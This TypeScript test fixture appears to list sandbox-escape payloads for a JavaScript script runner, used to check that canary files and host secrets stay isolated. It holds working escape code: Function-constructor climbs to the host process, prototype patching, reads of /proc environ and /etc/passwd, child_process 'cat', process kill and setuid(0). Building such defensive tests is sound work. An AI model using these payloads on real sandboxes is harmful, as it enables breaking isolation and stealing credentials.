/**
 * Ways out of a sandbox: classes of published advisories for vm2, isolated contexts and Node's permissions, and what
 * anybody would try. Each is the body of `exec(nango, input)`; `input` names what to look for: `canaryFile`, `pid` and
 * `port` of the host. `found` is the attacker's box: what comes back, is thrown, logged or sent is searched for canaries.
 */
const files = (path: string): Record<string, string> => ({
  [`fs.readFileSync of ${path}`]: `return require('fs').readFileSync(${path}, 'latin1');`,
  [`node:fs of ${path}`]: `return require('node:fs').readFileSync(${path}, 'latin1');`,
  [`fs/promises of ${path}`]: `return await require('fs/promises').readFile(${path}, 'latin1');`,
  [`import() of fs for ${path}`]: `return (await import('node:fs')).readFileSync(${path}, 'latin1');`,
  [`getBuiltinModule for ${path}`]: `return process.getBuiltinModule('fs').readFileSync(${path}, 'latin1');`,
});

/** Ways to the object behind the fake \`process\`, then what it would give. */
const USE = `
  const seen = [];
  const attempt = (name, use) => { try { seen.push(name + ':' + use()); } catch (error) { seen.push(name + '!' + error.message); } };
  attempt('env', () => JSON.stringify(p.env));
  attempt('binding', () => p.binding('fs').internalModuleReadJSON(input.canaryFile));
  attempt('linked', () => p._linkedBinding('fs'));
  attempt('builtin', () => p.getBuiltinModule('fs').readFileSync(input.canaryFile, 'utf8'));
  attempt('main', () => p.mainModule.require('fs').readFileSync(input.canaryFile, 'utf8'));
  attempt('dlopen', () => p.dlopen({ exports: {} }, input.canaryFile));
  attempt('argv', () => p.argv.join(' '));
  attempt('report', () => JSON.stringify(p.report.getReport()));
  return seen;`;
const viaProcess = (way: string): string => `const p = (${way}); ${USE}`;

const PROCESS_WAYS: Record<string, string> = {
  'the global': 'process',
  'globalThis.process': 'globalThis.process',
  'the constructor of the script object': `nango.constructor.constructor('return process')()`,
  'the constructor of a method': `nango.get.constructor('return process')()`,
  'the constructor of an async method': `await nango.proxy.constructor('return process')()`,
  'the constructor of a generator': `nango.paginate.constructor('return process')().next().value`,
  'the constructor of require': `require.constructor('return process')()`,
  'the constructor of this': `(function () { return this; })().constructor.constructor('return process')()`,
  'Function of an array method': `[].map.constructor('return process')()`,
  'indirect eval': `(0, eval)('process')`,
  'Reflect.construct of Function': `Reflect.construct(Function, ['return process'])()`,
  'Function by a bound function': `Function.bind(null, 'return process')()()`,
  AsyncFunction: `await (async () => {}).constructor('return process')()`,
  GeneratorFunction: `(function* () {}).constructor('return process')().next().value`,
  'setTimeout with a text': `await new Promise((go) => setTimeout('globalThis.p = process', 0) || go(globalThis.p))`,
  'the constructor of an error of the host': `await nango.getConnection().catch((e) => e.constructor.constructor('return process')())`,
  'the stack of an error': `(() => { const old = Error.prepareStackTrace; let f; Error.prepareStackTrace = (e, s) => { f = s.map((c) => c.getFunction() ?? c.getThis()); return ''; }; void new Error().stack; Error.prepareStackTrace = old; return f.find((x) => x && x.env) ?? f.find((x) => x && x.process)?.process; })()`,
  'this of a frame': `(() => { let t; Error.prepareStackTrace = (e, s) => { t = s.map((c) => c.getThis()).find((x) => x && x.process); return ''; }; void new Error().stack; return t.process; })()`,
  'arguments.callee.caller': `(function () { return arguments.callee.caller.caller.arguments[0].process; })()`,
  'a getter that a proxy sees': `(() => { let got; const bait = new Proxy({}, { get(t, k, r) { got ??= r; return undefined; } }); try { nango.log(bait); } catch {} return got.constructor.constructor('return process')(); })()`,
  'the prototype of a promise': `await new Promise((go) => { const then = Promise.prototype.then; Promise.prototype.then = function (a, b) { go(this.constructor.constructor); Promise.prototype.then = then; return then.call(this, a, b); }; nango.getMetadata(); }).then((F) => F('return process')())`,
  'Symbol.species of a promise': `(() => { class P extends Promise { static get [Symbol.species]() { return Promise; } } return P.resolve().then.constructor('return process')(); })()`,
  'a thrown stack overflow': `(() => { try { (function f() { f(); })(); } catch (e) { return e.constructor.constructor('return process')(); } })()`,
  'an error of the host realm': `(() => { try { Buffer.from(Symbol()); } catch (e) { return e.constructor.constructor('return process')(); } })()`,
  'inspect.custom': `(() => { let f; require('util').inspect({ [Symbol.for('nodejs.util.inspect.custom')]: (d, o, i) => { f = i; } }); return f.constructor('return process')(); })()`,
  'the abort signal': `nango.abortSignal.constructor.constructor('return process')()`,
  'a WeakMap patch': `await (async () => { const get = WeakMap.prototype.get; let f; WeakMap.prototype.get = function (k) { f = k; return get.call(this, k); }; console.log(1); WeakMap.prototype.get = get; return f; })()`,
  'Array.prototype.push patch': `await (async () => { const push = Array.prototype.push; let f; Array.prototype.push = function (...a) { f ??= this; return push.apply(this, a); }; nango.log('x'); Array.prototype.push = push; return f; })()`,
  'Map.prototype.get patch': `await (async () => { const get = Map.prototype.get; const all = []; Map.prototype.get = function (k) { all.push(this); return get.call(this, k); }; await nango.getMetadata().catch(() => 0); Map.prototype.get = get; return all[0]; })()`,
  'Object.prototype setter': `(() => { let v; Object.defineProperty(Object.prototype, 'env', { configurable: true, set(x) { v = x; }, get() { return v; } }); const o = {}; delete Object.prototype.env; return o; })()`,
};

const MODULES = [
  'child_process', 'node:child_process', 'worker_threads', 'cluster', 'vm', 'module', 'node:module', 'process', 'node:process', 'os', 'inspector',
  'node:inspector/promises', 'v8', 'repl', 'wasi', 'node:sqlite', 'node:test', 'trace_events', 'async_hooks', 'perf_hooks', 'diagnostics_channel',
  'net', 'tls', 'dgram', 'dns', 'dns/promises', 'http', 'https', 'http2', 'undici', '../../config.ts', '/etc/passwd', 'file:///etc/passwd', 'pg',
  'axios', 'fs-extra', 'constants', 'timers', 'readline', 'tty', 'node:sea',
]; // prettier-ignore

const OTHERS: Record<string, string> = {
  'child_process by import': `return (await import('child_process')).execSync('cat ' + input.canaryFile).toString();`,
  'a worker with the environment': `const { Worker } = await import('worker_threads'); return new Worker('1', { eval: true, env: 0 });`,
  'module.constructor._load': `return module.constructor._load('fs').readFileSync(input.canaryFile, 'utf8');`,
  'require.main': `return require.main.require('fs').readFileSync(input.canaryFile, 'utf8');`,
  'require.cache': `return JSON.stringify(require.cache) + require.resolve('fs');`,
  'module.children': `return JSON.stringify([module.children, module.paths, module.parent]);`,
  'import of a data URL': `return (await import('data:text/javascript,export default process.env')).default;`,
  'import inside of eval': `return await eval("import('fs')");`,
  'import by a new Function': `return await new Function("return import('fs')")();`,
  'import by setTimeout': `return await new Promise((go, no) => setTimeout(() => import('node:fs').then((fs) => go(fs.readFileSync(input.canaryFile, 'utf8')), no), 1));`,
  'import attributes': `return (await import(input.canaryFile, { with: { type: 'json' } })).default;`,
  'WebAssembly': `return new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).toString() + JSON.stringify(WebAssembly.Module.imports);`,
  'crypto.setEngine': `return require('crypto').setEngine(input.canaryFile);`,
  'fetch of the host': `return await (await fetch('http://127.0.0.1:' + input.port)).text();`,
  'fetch of a file': `return await (await fetch('file://' + input.canaryFile)).text();`,
  'WebSocket': `return new WebSocket('ws://127.0.0.1:' + input.port).url + WebSocket.CONNECTING;`,
  'EventSource': `return new EventSource('http://127.0.0.1:' + input.port).url;`,
  'net by import': `const net = await import('net'); return await new Promise((go, no) => net.connect(input.port, '127.0.0.1').on('data', (d) => go(String(d))).on('error', no));`,
  'http by import': `const http = await import('http'); return await new Promise((go, no) => http.get('http://127.0.0.1:' + input.port, (r) => r.on('data', (d) => go(String(d)))).on('error', no));`,
  'the socket of a stream': `const { Duplex } = require('stream'); return Duplex.prototype.connect?.call(new Duplex(), input.port);`,
  'process.kill of the host': `return process.kill(input.pid, 'SIGTERM');`,
  'process.reallyExit': `return process.reallyExit(0) ?? process.abort();`,
  'uid back to root': `return process.setuid(0);`,
  'inspector by signal': `return process._debugProcess(input.pid);`,
  'allocUnsafe remains': `return Buffer.allocUnsafe(8000).toString('latin1') + Buffer.allocUnsafeSlow(65536).toString('latin1');`,
  'Buffer pool': `return Buffer.from('a').buffer.byteLength + Buffer.from(Buffer.from('a').buffer).toString('latin1');`,
  'net as a global': `return await new Promise((go, no) => globalThis.net.connect(input.port, '127.0.0.1').on('data', (d) => go(String(d))).on('error', no));`,
  'http as a global': `return await new Promise((go, no) => http.get('http://127.0.0.1:' + input.port, (r) => r.on('data', (d) => go(String(d)))).on('error', no));`,
  'fs as a global': `return globalThis.fs.readFileSync(input.canaryFile, 'utf8');`,
  'child_process as a global': `return child_process.execSync('cat ' + input.canaryFile).toString();`,
  'every module as a global': `return Object.getOwnPropertyNames(globalThis).filter((name) => { try { return globalThis[name]?.readFileSync || globalThis[name]?.connect || globalThis[name]?.builtinModules || globalThis[name]?.Worker; } catch { return false; } }).map((name) => 'HAWSER' + name);`,
  'globals': `return Reflect.ownKeys(globalThis).map((k) => { try { return String(k) + '=' + JSON.stringify(globalThis[k]); } catch { return String(k); } });`,
  'the own source': `return nango.get.toString() + require.toString() + process.exit.toString();`,
  'symbols of the script object': `return JSON.stringify(Object.getOwnPropertyDescriptors(nango)) + Reflect.ownKeys(Object.getPrototypeOf(nango));`,
  'util.inspect with everything': `return require('util').inspect([nango, globalThis, process, require, module], { depth: 8, showHidden: true, showProxy: true });`,
  'another method of the host': `return await nango.constructor.prototype.call?.('readFile', input.canaryFile);`,
  'a file of the host by fetch': `return await (await nango.uncontrolledFetch({ url: 'file://' + input.canaryFile })).text();`,
  'assert reads sources': `try { require('assert')(0 == 1); } catch (error) { return error.message + error.stack; }`,
  'source maps read files': `const e = new Error('x'); e.stack = 'at x (' + input.canaryFile + ':1:1)'; throw e;`,
  'toString of the failure': `throw { toString() { return process.env; }, get message() { return require('fs'); } };`,
  'throwing a proxy': `throw new Proxy(new Error('x'), { get(t, k) { if (k === 'stack') return input.canaryFile; return t[k]; } });`,
  'output with toJSON': `return { toJSON() { return this.constructor.constructor('return process.env')(); } };`,
  'output with __proto__': `return JSON.parse('{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}}');`,
  'metadata with __proto__': `await nango.setMetadata(JSON.parse('{"__proto__":{"polluted":"yes"}}')); return 1;`,
  'FinalizationRegistry': `return new FinalizationRegistry(() => {}).constructor.constructor('return process.env')();`,
  'ShadowRealm': `return new ShadowRealm().evaluate('process.env');`,
  'Atomics.wait': `return Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 1);`,
  'AsyncLocalStorage by stream': `return require('events').EventEmitterAsyncResource && new (require('events').EventEmitterAsyncResource)({ name: 'x' }).asyncResource.runInAsyncScope(() => process.env);`,
  'util.promisify.custom': `return await require('util').promisify(setTimeout)(1);`,
  'querystring patch': `require('querystring').escape = () => process.env; return require('querystring').stringify({ a: 1 });`,
  'MessageChannel transfer': `return new MessageChannel().port1.constructor.constructor('return process.env')();`,
  'structuredClone of functions': `return structuredClone({ f: () => process.env });`,
  'an open descriptor': `return new (require('stream').Readable)({ read() {} }).fd ?? require('fs').readSync(3, Buffer.alloc(99));`,
}; // prettier-ignore

export const ESCAPES: [string, string][] = [
  ...Object.entries(files("'/proc/self/environ'")),
  ...Object.entries(files("'/proc/' + input.pid + '/environ'")),
  ...Object.entries(files("'/proc/' + input.pid + '/cmdline'")),
  ...Object.entries(files('input.canaryFile')),
  ...Object.entries(PROCESS_WAYS).map(([name, way]): [string, string] => [`process by ${name}`, viaProcess(way)]),
  ...MODULES.map((name): [string, string] => [
    `require of ${name}`,
    `const m = require(${JSON.stringify(name)}); return Object.keys(m).join() + (m.readFileSync?.(input.canaryFile, 'utf8') ?? '') + (m.execSync?.('cat ' + input.canaryFile) ?? '') + JSON.stringify(m.env ?? '');`,
  ]),
  ...Object.entries(OTHERS),
];
